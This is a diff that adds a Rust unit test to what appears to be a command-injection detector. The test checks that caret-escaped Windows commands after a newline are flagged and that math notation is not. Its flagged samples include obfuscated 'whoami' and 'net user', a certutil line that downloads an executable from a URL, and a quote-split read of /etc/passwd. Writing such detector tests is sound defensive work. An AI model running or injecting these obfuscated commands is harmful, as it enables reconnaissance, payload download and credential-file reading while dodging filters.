@@ -4362,3 +4362,29 @@ fn gnu_quoting_opens_no_substitution() {
         assert!(hit(v), "{v}");
     }
 }
+
+/// A caret is cmd's escape alone, and cmd ends a command line at a line feed: after a
+/// newline a caret-spelt name runs only as one of Windows' commands (a script cmd runs line
+/// by line). Math's `i^d`, `l^s` on a second line name none; `who^ami` stays judged, and
+/// a caret word after `&` or at the value's start is judged as before.
+#[test]
+fn caret_spelt_names_after_a_newline_run_only_on_windows() {
+    for v in [
+        "i^d \\bmod {p_1}^{k_1}, \\dots,\n            i^d \\bmod {p_n}^{k_n}",
+        "sum\n  l^s",
+        "y = 2\nw^c",
+    ] {
+        assert!(!hit(v), "{v}");
+    }
+    for v in [
+        "a\nwho^ami",
+        "a\nn^et user",
+        "x\nWHO^AMI.exe",
+        "x\nc^ertutil -urlcache -f http://x/a a.exe",
+        "a & who^ami",
+        "w^h^o^a^m^i",
+        "x\nc'a't /etc/passwd",
+    ] {
+        assert!(hit(v), "{v}");
+    }
+}
